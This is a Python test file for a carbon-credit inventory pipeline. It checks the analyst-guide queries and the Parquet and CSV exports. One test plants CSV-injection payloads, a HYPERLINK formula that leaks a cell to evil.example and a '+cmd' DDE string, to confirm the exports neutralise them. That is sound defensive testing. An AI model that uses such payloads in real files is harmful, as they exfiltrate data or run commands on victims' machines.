"""The analyst guide's example queries run against a published file; the Parquet and CSV exports match it."""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest

from pipeline.buyers.statement import write_buyer_statements
from pipeline.csv_files import write_csv
from pipeline.publish.exports import export_published
from pipeline.settings import REPO_ROOT
from tests.publish.conftest import append_ledger, publish_under, stage
from tests.publish.scenario import first_snapshot, second_snapshot


def guide_source() -> Path:
    return REPO_ROOT / "docs" / "analyst-guide.md"


def guide_queries() -> list[str]:
    return re.findall(r"```sql\n(.*?)```", guide_source().read_text(encoding="utf-8"), flags=re.DOTALL)


def test_the_readme_fits_on_two_screens_and_its_links_resolve():
    readme = REPO_ROOT / "README.md"
    lines = readme.read_text(encoding="utf-8").splitlines()
    assert len(lines) <= 150, f"README.md has {len(lines)} lines; keep it at most 150 and move detail to docs/"
    for page in ("docs/analyst-guide.md", "docs/scoring.md", "docs/operations.md", "docs/buyers.md"):
        assert f"({page})" in "\n".join(lines), f"README.md must link {page}"
    for document in [readme, *(REPO_ROOT / "docs").glob("*.md")]:
        text = document.read_text(encoding="utf-8")
        for target in re.findall(r"\]\(((?!https?:|#)[^)#]+)", text):
            assert (document.parent / target).exists(), f"{document.name} links {target}, which does not exist"


def publish_twice(paths, policy) -> None:
    for snapshot in (first_snapshot(), second_snapshot()):
        stage(snapshot, paths)
        with duckdb.connect(str(paths.work_db), read_only=True) as conn:
            publish_under(conn, paths, policy)


def test_the_guide_has_five_example_queries():
    assert len(guide_queries()) >= 5, f"{guide_source()} must hold at least five ```sql example queries"


@pytest.mark.parametrize("index", range(5))
def test_each_guide_query_answers_from_the_published_file(paths, policy, index):
    queries = guide_queries()
    publish_twice(paths, policy)
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        rows = conn.execute(queries[index]).fetchall()
    assert rows, f"example query {index + 1} from {guide_source().name} returned nothing:\n{queries[index]}"


def test_the_high_tier_arr_query_sums_the_mexican_restoration_credits(paths, policy):
    publish_twice(paths, policy)
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        rows = conn.execute(guide_queries()[0]).fetchall()
    assert [(r[0], r[2]) for r in rows] == [("Mexico", 4_933)], "only CAR1745 is still high-tier ARR with credits"


def test_what_left_query_explains_each_departure(paths, policy):
    publish_twice(paths, policy)
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        rows = conn.execute(guide_queries()[1]).df()
    assert list(rows["project_id"]) == ["ACR701", "CAR1749"], "the two project-vintages that left, largest first"
    assert list(rows["reason_code"]) == ["became_ineligible", "no_credits_left_at_registry"]


def test_exports_match_the_published_inventory(paths, policy):
    publish_twice(paths, policy)
    written = export_published(paths.curated_db)
    parquet, csv = written[:2]
    assert [p.name for p in written] == [
        f"{name}.{suffix}"
        for name in ("eligible_inventory", "quality_scores", "quality_score_reasons", "data_dictionary")
        for suffix in ("parquet", "csv")
    ], f"exports written: {[p.name for p in written]}"
    assert all(p.parent == paths.curated_db.parent for p in written), "exports sit next to the database"
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        table = conn.execute("SELECT * FROM eligible_inventory ORDER BY registry, project_id, vintage").df()
    from_parquet = pd.read_parquet(parquet)
    assert list(from_parquet.columns) == list(table.columns), "Parquet keeps every column"
    assert from_parquet["available_net"].tolist() == table["available_net"].tolist()
    from_csv = pd.read_csv(csv)
    assert from_csv["project_id"].tolist() == table["project_id"].tolist()
    assert (
        from_csv.loc[from_csv["project_id"] == "ART102", "badges"].item() == "ICVCM CCP label; CORSIA first phase; SDG"
    )
    assert not list(paths.curated_db.parent.glob(".*.tmp")), "no temporary export files are left behind"


def test_scores_reasons_and_dictionary_are_exported_with_every_column_described(paths, policy):
    publish_twice(paths, policy)
    export_published(paths.curated_db)
    folder = paths.curated_db.parent
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        scores = conn.execute("SELECT * FROM quality_scores ORDER BY registry, project_id, vintage").df()
        reasons = conn.execute("SELECT sum(len(reasons)) FROM quality_scores").fetchone()[0]
        published = conn.execute(
            "SELECT table_name, column_name, comment FROM duckdb_columns() "
            "WHERE schema_name = 'main' AND table_name = 'quality_scores'"
        ).fetchall()

    from_parquet = pd.read_parquet(folder / "quality_scores.parquet")
    assert from_parquet["project_id"].tolist() == scores["project_id"].tolist(), "every scored row, in order"
    assert [len(r) for r in from_parquet["reasons"]] == [len(r) for r in scores["reasons"]], "reasons kept as lists"
    long = pd.read_csv(folder / "quality_score_reasons.csv")
    assert len(long) == reasons > 0, f"one CSV row per reason: {len(long)} rows for {reasons} reasons"
    assert list(long.columns) == [
        "project_id", "registry", "vintage", "position", "code", "criterion", "message", "source"
    ]  # fmt: skip
    in_order = long.sort_values(["registry", "project_id", "vintage", "position"], kind="stable")
    assert long.index.equals(in_order.index), "reasons are written by project-vintage, then their place in its trail"
    assert (long.groupby(["project_id", "vintage"])["position"].cumcount() + 1).tolist() == long["position"].tolist()
    assert "reasons" not in pd.read_csv(folder / "quality_scores.csv").columns, "CSV cells hold no list of records"

    schema = pq.read_schema(folder / "quality_scores.parquet")
    for _, column, comment in published:
        metadata = schema.field(column).metadata or {}
        assert metadata.get(b"description") == comment.encode(), f"quality_scores.{column}: description {metadata}"
    for name in ("eligible_inventory", "quality_score_reasons", "data_dictionary"):
        undescribed = [f.name for f in pq.read_schema(folder / f"{name}.parquet") if not (f.metadata or {})]
        assert not undescribed, f"{name}.parquet columns without a description: {undescribed}"

    dictionary = pd.read_csv(folder / "data_dictionary.csv")
    row = dictionary[(dictionary["relation"] == "eligible_inventory") & (dictionary["column"] == "available_net")]
    assert row["description"].item().startswith("available - retired_for_buyers"), row.to_dict("records")
    assert dictionary["description"].notna().all(), "every published column is described in the dictionary export"


def test_score_exports_sorted_window_by_window_are_the_files_of_one_sort(paths, policy, tmp_path):
    """Sorting the score exports all at once held every reason in memory (1.39 GB at a million credits); they are
    sorted a few projects at a time, and the files are the ones a single sort writes."""
    publish_twice(paths, policy)
    windowed = tmp_path / "windowed" / paths.curated_db.name
    windowed.parent.mkdir()
    shutil.copy(paths.curated_db, windowed)
    whole = export_published(paths.curated_db, window_rows=10**9)
    in_windows = export_published(windowed, window_rows=2)
    with duckdb.connect(str(windowed), read_only=True) as conn:
        projects = conn.execute("SELECT count(DISTINCT (registry, project_id)) FROM quality_scores").fetchone()[0]
    assert projects > 3, "the scenario spans several windows"
    for one, windows in zip(whole, in_windows, strict=True):
        if one.suffix == ".csv":
            assert one.read_bytes() == windows.read_bytes(), f"{windows.name} differs from one sort's"
        else:
            assert pq.read_table(one).equals(pq.read_table(windows), check_metadata=True), f"{windows.name} differs"
    assert not list(windowed.parent.glob(".*")), "no window's part file is left behind"


def test_a_csv_is_written_in_its_order_at_scale(tmp_path):
    """DuckDB may reorder a sorted subquery's rows under a projection when it writes them in parallel: the
    quality scores' CSV came out of order at a million credits, and so does this table."""
    with duckdb.connect() as conn:
        conn.execute("SET threads = 2")
        conn.execute(
            "CREATE TABLE t AS SELECT (i * 7919) % 400000 AS k, 'project ' || i || repeat('x', i % 50) AS name, "
            "['a', 'b'] AS tags FROM range(400000) AS r(i)"
        )
        target = write_csv(
            conn, "SELECT k, name, array_to_string(tags, '; ') AS tags FROM t", tmp_path / "t.csv", order_by="k"
        )
    keys = pd.read_csv(target, usecols=["k"])["k"]
    assert keys.is_monotonic_increasing and len(keys) == 400000, "the CSV's rows are in order_by's order"


def test_make_export_runs_on_the_published_file_without_loading_dagster(paths, policy):
    publish_twice(paths, policy)
    makefile = (REPO_ROOT / "Makefile").read_text()
    assert "$(PY) -m pipeline.publish.exports" in makefile, "make export must call the exporter directly"
    env = os.environ | {"CREDIT_QUALITY_CURATED_DB": str(paths.curated_db)}
    done = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "pipeline.publish.exports"],
        cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.count("wrote ") == 8, done.stdout
    imported = [line.rsplit("|", 1)[-1].strip() for line in done.stderr.splitlines() if line.startswith("import time")]
    assert not [m for m in imported if m.split(".")[0] == "dagster"], "make export imported Dagster"


def test_exporting_before_any_publish_is_a_clear_error(paths):
    with pytest.raises(FileNotFoundError, match="publish before exporting"):
        export_published(paths.curated_db)


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def test_csv_cells_never_become_spreadsheet_formulas(paths, policy, tmp_path):
    """OWASP CSV injection: text starting with = + - @ tab or CR is quoted in every CSV, numbers stay numbers."""
    snapshot = first_snapshot()
    snapshot.names = {"ART102": FORMULA, "CAR1745": "+cmd|' /C calc'!A0", "ACR701": "-2+3", "CAR1749": "@SUM(1)"}
    stage(snapshot, paths)
    append_ledger(paths, [("O-1", "B-1", "ART102", 2023, 10, dt.datetime(2026, 4, 20))])
    with duckdb.connect(str(paths.ledger_db)) as ledger:
        ledger.execute("UPDATE retirements SET beneficiary = '\tTAB' || chr(13) || '=1+1'")
    with duckdb.connect(str(paths.work_db), read_only=True) as conn:
        publish_under(conn, paths, policy)
    written = export_published(paths.curated_db)
    parquet, csv = written[0], written[1]

    names = pd.read_csv(csv, dtype=str, keep_default_na=False).set_index("project_id")["name"].to_dict()
    expected = {"ART102": "'" + FORMULA, "CAR1745": "'+cmd|' /C calc'!A0", "ACR701": "'-2+3", "CAR1749": "'@SUM(1)"}
    assert names == expected, f"every formula-like name must start with a quote in the CSV: {names}"
    assert pd.read_parquet(parquet).set_index("project_id").at["ART102", "name"] == FORMULA, "Parquet is untouched"
    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
        stored = conn.execute("SELECT name FROM projects WHERE project_id = 'ART102'").fetchone()[0]
    assert stored == FORMULA, "the published DuckDB file keeps the registry's text as it is"

    statement = write_buyer_statements(paths.ledger_db, tmp_path / "statements")["B-1"]
    row = pd.read_csv(statement, dtype=str, keep_default_na=False).iloc[0]
    assert row["buyer_name"] == "'\tTAB\r=1+1", f"a buyer statement's text is neutralised too: {row['buyer_name']!r}"
    assert row["tonnes"] == "10" and row["limiting_score"] == "4.0", "numbers are written as numbers"


def test_negative_numbers_stay_numbers_and_only_text_is_quoted(tmp_path):
    with duckdb.connect() as conn:
        target = write_csv(
            conn,
            "SELECT -5 AS delta, -2.5::DOUBLE AS share, '-5' AS note, DATE '2026-01-02' AS day, 'ok' AS plain",
            tmp_path / "cells.csv",
        )
    assert target.read_text().splitlines() == ["delta,share,note,day,plain", "-5,-2.5,'-5,2026-01-02,ok"], (
        "a negative number is a number, a text cell starting with '-' is quoted, everything else is as it is"
    )
